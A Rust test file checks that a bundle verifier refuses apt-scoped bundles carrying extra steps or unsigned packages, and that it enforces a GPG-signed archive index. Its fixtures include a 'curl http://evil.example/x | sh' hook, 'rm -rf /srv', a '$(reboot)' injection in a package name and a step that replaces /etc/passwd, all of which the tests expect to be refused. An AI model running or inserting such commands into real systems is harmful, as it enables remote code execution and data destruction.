//! Issue 24: a key trusted only for apt bundles (`scope = "apt"`) verifies bundles of the
//! shape `bundle from-apt` makes, and nothing else: a bundle it signs that carries any other
//! script, step, check or file is refused at verify, with a message naming the key and the
//! reason. The same bundles signed by an unscoped key verify (the refusal is the scope's).
//!
//! And each of its `.deb` files must be in the archive's signed index the bundle carries
//! (`patchover_bundle::aptindex`): an index here is made and clear-signed with a real GnuPG
//! key, and checked with the real `gpgv`, as the host does.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{Key, chain, signed_bundle};
use patchover_bundle::aptindex::IndexError;
use patchover_bundle::aptindex::{packages_name, release_name};
use patchover_bundle::aptshape::{SPACE_FILE, SPACE_SCRIPT, install_script};
use patchover_bundle::keys::SCOPED_KEY_SUFFIX;
use patchover_bundle::{
    KeyScope, Limits, ScopedKey, Sha256, TrustedKey, TrustedKeys, VerifyError, verify_bundle,
};

const DEB_A: &str = "po-a_1.0-2_all.deb";
const DEB_B: &str = "po-b_1.0-2_all.deb";
const DEB_C: &str = "po-c_1.0-2_all.deb";

/// The three packages' contents (stand-ins: the check is on their hashes).
fn deb_bytes(name: &str) -> Vec<u8> {
    format!("!<arch>\n{name}\n").into_bytes()
}

/// An archive signing key (GnuPG, in a home of its own) and its public keyring.
struct Archive {
    home: PathBuf,
    keyring: PathBuf,
}

impl Archive {
    fn new(dir: &Path, name: &str) -> Archive {
        let home = dir.join(format!("{name}.gnupg"));
        std::fs::create_dir_all(&home).unwrap();
        std::fs::set_permissions(&home, std::os::unix::fs::PermissionsExt::from_mode(0o700))
            .unwrap();
        let a = Archive {
            keyring: dir.join(format!("{name}.gpg")),
            home,
        };
        a.gpg(&[
            "--quick-gen-key",
            &format!("{name} <{name}@example.invalid>"),
            "ed25519",
            "sign",
            "never",
        ]);
        std::fs::write(&a.keyring, a.gpg(&["--export"])).unwrap();
        a
    }

    fn gpg(&self, args: &[&str]) -> Vec<u8> {
        let out = Command::new("gpg")
            .arg("--homedir")
            .arg(&self.home)
            .args(["--batch", "--pinentry-mode", "loopback", "--passphrase", ""])
            .args(args)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "gpg {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    }

    /// `text` clear-signed.
    fn clearsign(&self, text: &str) -> Vec<u8> {
        let f = self.home.join("release");
        std::fs::write(&f, text).unwrap();
        self.gpg(&["--clearsign", "-o", "-", f.to_str().unwrap()])
    }
}

/// A package index listing `debs`, and a release file listing the index.
fn index_texts(debs: &[(&str, Vec<u8>)], valid_until: &str) -> (String, String) {
    let packages: String = debs
        .iter()
        .map(|(name, data)| {
            let package = name.split('_').next().unwrap();
            format!(
                "Package: {package}\nVersion: 1.0-2\nArchitecture: all\nFilename: pool/main/{name}\nSize: {}\nSHA256: {}\n\n",
                data.len(),
                Sha256::of(data)
            )
        })
        .collect();
    let release = format!(
        "Origin: patchover-test\nSuite: bookworm-security\nDate: Mon, 07 Dec 2026 10:00:00 UTC\n{valid_until}SHA256:\n {} {} main/binary-amd64/Packages\n",
        Sha256::of(packages.as_bytes()),
        packages.len()
    );
    (packages, release)
}

/// The index files of a bundle carrying `debs`, signed by `archive`.
fn signed_index(archive: &Archive, debs: &[(&str, Vec<u8>)]) -> Files {
    let (packages, release) = index_texts(debs, "Valid-Until: Fri, 01 Jan 2100 00:00:00 UTC\n");
    index_files(archive.clearsign(&release), packages.into_bytes())
}

fn index_files(release: Vec<u8>, packages: Vec<u8>) -> Files {
    vec![
        (leak(release_name(1)), release, 0o644),
        (leak(packages_name(1)), packages, 0o644),
    ]
}

fn leak(s: String) -> &'static str {
    Box::leak(s.into_boxed_str())
}

fn all_debs() -> Vec<(&'static str, Vec<u8>)> {
    [DEB_A, DEB_B, DEB_C]
        .into_iter()
        .map(|n| (n, deb_bytes(n)))
        .collect()
}

/// A manifest of from-apt's shape: the space check, one dpkg step, the install script of
/// two packages configured together; then `extra_steps` and `extra_checks`.
fn apt_manifest(extra_steps: &str, extra_checks: &str) -> String {
    common::manifest(
        "apt-0123456789ab",
        &format!(
            "[[step]]\nkind = \"script\"\nfile = \"{SPACE_FILE}\"\nargs = [\"100\"]\n\n[[step]]\nkind = \"dpkg\"\nfile = \"{DEB_A}\"\n\n[[step]]\nkind = \"script\"\nfile = \"install-3.sh\"\n{extra_steps}"
        ),
        &format!(
            "[[check]]\nkind = \"package_version\"\npackage = \"po-a\"\nversion = \"1.0-2\"\n{extra_checks}"
        ),
    )
}

/// Payload files: (path, content, mode).
type Files = Vec<(&'static str, Vec<u8>, u32)>;

/// The payload of a bundle of from-apt's shape with `install` as its install script and
/// `index` as its archive index.
fn apt_files(install: String, index: &Files) -> Files {
    let mut f: Files = vec![(SPACE_FILE, SPACE_SCRIPT.as_bytes().to_vec(), 0o755)];
    f.extend(all_debs().into_iter().map(|(n, d)| (n, d, 0o644)));
    f.push(("install-3.sh", install.into_bytes(), 0o755));
    f.extend(index.iter().cloned());
    f
}

fn good_install() -> String {
    install_script(&[DEB_B, DEB_C])
}

fn make(
    dir: &Path,
    name: &str,
    manifest: &str,
    files: &[(&str, Vec<u8>, u32)],
    key: &Key,
) -> PathBuf {
    let files: Vec<(&str, &[u8], u32)> = files
        .iter()
        .map(|(p, d, m)| (*p, d.as_slice(), *m))
        .collect();
    signed_bundle(dir, name, manifest, &files, key)
}

fn apt_scoped(key: &Key, archive: &Archive) -> TrustedKeys {
    TrustedKeys::from_config(
        &[],
        &[ScopedKey {
            path: key.public.clone(),
            scope: KeyScope::Apt,
            archive_keyrings: vec![archive.keyring.clone()],
        }],
    )
    .unwrap()
}

#[test]
fn an_apt_scoped_key_verifies_only_bundles_of_from_apts_shape() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let key = Key::new(d, "apt");
    let archive = Archive::new(d, "archive");
    let scoped = apt_scoped(&key, &archive);
    let limits = Limits::default();
    let index = signed_index(&archive, &all_debs());
    let apt_files = |install: String| apt_files(install, &index);

    let good = make(
        d,
        "good.tar.zst",
        &apt_manifest("", ""),
        &apt_files(good_install()),
        &key,
    );
    let v = verify_bundle(&good, &scoped, &limits).unwrap();
    assert_eq!(v.signature().scope, Some(KeyScope::Apt));

    // Each of these is refused when the apt-scoped key signed it, and verifies with the same
    // key trusted for every bundle.
    let hook = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
    let cases: Vec<(&str, String, Files, &str)> = vec![
        (
            "an extra script step",
            apt_manifest("\n[[step]]\nkind = \"script\"\nfile = \"hook.sh\"\n", ""),
            [
                apt_files(good_install()),
                vec![("hook.sh", hook.as_bytes().to_vec(), 0o755)],
            ]
            .concat(),
            "step 4 is `script hook.sh`",
        ),
        (
            "a changed space check",
            apt_manifest("", ""),
            {
                let mut f = apt_files(good_install());
                f[0].1 = format!("{SPACE_SCRIPT}rm -rf /srv\n").into_bytes();
                f
            },
            "payload/check-space.sh is not the script from-apt writes",
        ),
        (
            "an install script that runs more than dpkg",
            apt_manifest("", ""),
            apt_files(format!("{}touch /etc/owned\n", good_install())),
            "payload/install-3.sh is not the script from-apt writes",
        ),
        (
            "an install script with a shell word in a package name",
            apt_manifest("", ""),
            apt_files(good_install().replace(&format!("'{DEB_C}'"), "'$(reboot).deb'")),
            "payload/install-3.sh is not the script from-apt writes",
        ),
        (
            "a replace step",
            apt_manifest(
                "\n[[step]]\nkind = \"replace\"\npath = \"/etc/passwd\"\nfile = \"hook.sh\"\nold_sha256 = \"absent\"\n",
                "",
            ),
            [
                apt_files(good_install()),
                vec![("hook.sh", hook.as_bytes().to_vec(), 0o644)],
            ]
            .concat(),
            "step 4 is `replace /etc/passwd with hook.sh`",
        ),
        (
            "a command check",
            apt_manifest(
                "",
                "\n[[check]]\nkind = \"command_output\"\ncommand = [\"/bin/sh\", \"-c\", \"id\"]\ncontains = \"\"\n",
            ),
            apt_files(good_install()),
            "it has a command_output check",
        ),
        (
            "a file no step uses",
            apt_manifest("", ""),
            [
                apt_files(good_install()),
                vec![("extra.sh", hook.as_bytes().to_vec(), 0o755)],
            ]
            .concat(),
            "it carries payload/extra.sh",
        ),
    ];
    let unscoped = key.trusted();
    for (i, (what, manifest, files, why)) in cases.iter().enumerate() {
        let b = make(d, &format!("bad-{i}.tar.zst"), manifest, files, &key);
        let e = verify_bundle(&b, &scoped, &limits).unwrap_err();
        let msg = chain(&e);
        assert!(matches!(e, VerifyError::Scope { .. }), "{what}: {msg}");
        assert!(msg.contains(why), "{what}: {msg}");
        assert!(
            msg.contains(&key.signing.id().to_string())
                && msg.contains("trusted only for apt bundles")
                && msg.contains("[bundles] trusted_keys"),
            "{what}: {msg}"
        );
        verify_bundle(&b, &unscoped, &limits).unwrap_or_else(|e| panic!("{what}: {}", chain(&e)));
    }
}

/// The agent reads its keys from a directory the host staged: a `*.apt.pub` key keeps its
/// scope there, so the agent refuses the same bundles.
#[test]
fn a_scoped_key_keeps_its_scope_in_a_key_directory() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let key = Key::new(d, "apt");
    let full = Key::new(d, "release");
    let keys = d.join("keys");
    std::fs::create_dir(&keys).unwrap();
    std::fs::copy(&key.public, keys.join(format!("key-s0{SCOPED_KEY_SUFFIX}"))).unwrap();
    std::fs::copy(&full.public, keys.join("key-0.pub")).unwrap();
    let from_dir = TrustedKeys::from_dir(&keys).unwrap();
    let scopes: Vec<Option<KeyScope>> = from_dir.keys().iter().map(TrustedKey::scope).collect();
    assert_eq!(scopes, [None, Some(KeyScope::Apt)]);
    let m = apt_manifest("\n[[step]]\nkind = \"script\"\nfile = \"hook.sh\"\n", "");
    let files = [
        apt_files(good_install(), &Vec::new()),
        vec![("hook.sh", b"true\n".to_vec(), 0o755)],
    ]
    .concat();
    let by_apt = make(d, "a.tar.zst", &m, &files, &key);
    let e = verify_bundle(&by_apt, &from_dir, &Limits::default()).unwrap_err();
    assert!(matches!(e, VerifyError::Scope { .. }), "{}", chain(&e));
    let by_release = make(d, "r.tar.zst", &m, &files, &full);
    verify_bundle(&by_release, &from_dir, &Limits::default()).unwrap();
}

/// A key trusted only for apt bundles cannot bring a package of its own: each `.deb` must be
/// listed by an index that a release file signed by an archive keyring lists. Each way
/// around that is refused, naming what is wrong; the same bundles verify with the key
/// trusted for every bundle (the refusal is the scope's).
#[test]
fn an_apt_scoped_keys_packages_must_be_in_the_archives_signed_index() {
    let t = tempfile::tempdir().unwrap();
    let d = t.path();
    let key = Key::new(d, "apt");
    let archive = Archive::new(d, "archive");
    let other = Archive::new(d, "other");
    let scoped = apt_scoped(&key, &archive);
    let limits = Limits::default();
    let manifest = apt_manifest("", "");

    // A hand-made po-a in place of the archive's.
    let own = b"!<arch>\nhand-made, runs its postinst as root\n".to_vec();
    let with_own_deb = |index: &Files| -> Files {
        let mut f = apt_files(good_install(), index);
        let a = f.iter_mut().find(|(n, _, _)| *n == DEB_A).unwrap();
        a.1 = own.clone();
        f
    };
    let good_index = signed_index(&archive, &all_debs());
    let mut relisted = all_debs();
    relisted[0].1 = own.clone();
    let (relisted_packages, _) = index_texts(&relisted, "");
    let (packages, release) = index_texts(&all_debs(), "");
    let signed_release = archive.clearsign(&release);
    let edited_release = String::from_utf8(signed_release.clone())
        .unwrap()
        .replacen("Origin: patchover-test", "Origin: patchover-tesT", 1)
        .into_bytes();
    let (_, expired) = index_texts(&all_debs(), "Valid-Until: Tue, 01 Dec 2026 00:00:00 UTC\n");
    type Is = Box<dyn Fn(&IndexError) -> bool>;
    let cases: Vec<(&str, Files, Is, &str)> = vec![
        (
            "a package the index does not list",
            with_own_deb(&good_index),
            Box::new(
                |e| matches!(e, IndexError::UnlistedDeb { file, .. } if file == "payload/po-a_1.0-2_all.deb"),
            ),
            "payload/po-a_1.0-2_all.deb is not in the archive's signed index",
        ),
        (
            "an index rewritten to list it",
            with_own_deb(&index_files(
                signed_release.clone(),
                relisted_packages.into_bytes(),
            )),
            Box::new(|e| matches!(e, IndexError::UnlistedIndex { .. })),
            "is not listed by any verified release file",
        ),
        (
            "a release file signed by a key of no archive keyring",
            apt_files(
                good_install(),
                &index_files(other.clearsign(&release), packages.clone().into_bytes()),
            ),
            Box::new(|e| matches!(e, IndexError::Signature { .. })),
            "is not signed by a key of the archive keyrings",
        ),
        (
            "a release file changed after it was signed",
            apt_files(
                good_install(),
                &index_files(edited_release, packages.clone().into_bytes()),
            ),
            Box::new(|e| matches!(e, IndexError::Signature { why, .. } if why.contains("BADSIG"))),
            "BADSIG",
        ),
        (
            "an index whose Valid-Until has passed (a replay)",
            apt_files(
                good_install(),
                &index_files(archive.clearsign(&expired), packages.clone().into_bytes()),
            ),
            Box::new(|e| matches!(e, IndexError::Expired { .. })),
            "expired at its Valid-Until Tue, 01 Dec 2026",
        ),
        (
            "no index at all",
            apt_files(good_install(), &Vec::new()),
            Box::new(|e| matches!(e, IndexError::NoIndex)),
            "carries no signed archive index",
        ),
    ];
    let good = make(
        d,
        "good.tar.zst",
        &manifest,
        &apt_files(good_install(), &good_index),
        &key,
    );
    verify_bundle(&good, &scoped, &limits).unwrap_or_else(|e| panic!("{}", chain(&e)));
    let unscoped = key.trusted();
    for (i, (what, files, is, text)) in cases.iter().enumerate() {
        let b = make(d, &format!("bad-{i}.tar.zst"), &manifest, files, &key);
        let e = verify_bundle(&b, &scoped, &limits).unwrap_err();
        let msg = chain(&e);
        match &e {
            VerifyError::Index { why, key_id, .. } => {
                assert!(is(why), "{what}: {msg}");
                assert_eq!(*key_id, key.signing.id(), "{what}");
            }
            _ => panic!("{what}: not an index refusal: {msg}"),
        }
        assert!(msg.contains(text), "{what}: {msg}");
        assert!(
            msg.contains("trusted only for apt bundles"),
            "{what}: {msg}"
        );
        verify_bundle(&b, &unscoped, &limits).unwrap_or_else(|e| panic!("{what}: {}", chain(&e)));
    }

    // A keyring that is not there refuses every apt bundle, saying so.
    std::fs::remove_file(&archive.keyring).unwrap();
    let e = verify_bundle(&good, &scoped, &limits).unwrap_err();
    assert!(chain(&e).contains("is not a file"), "{}", chain(&e));
}
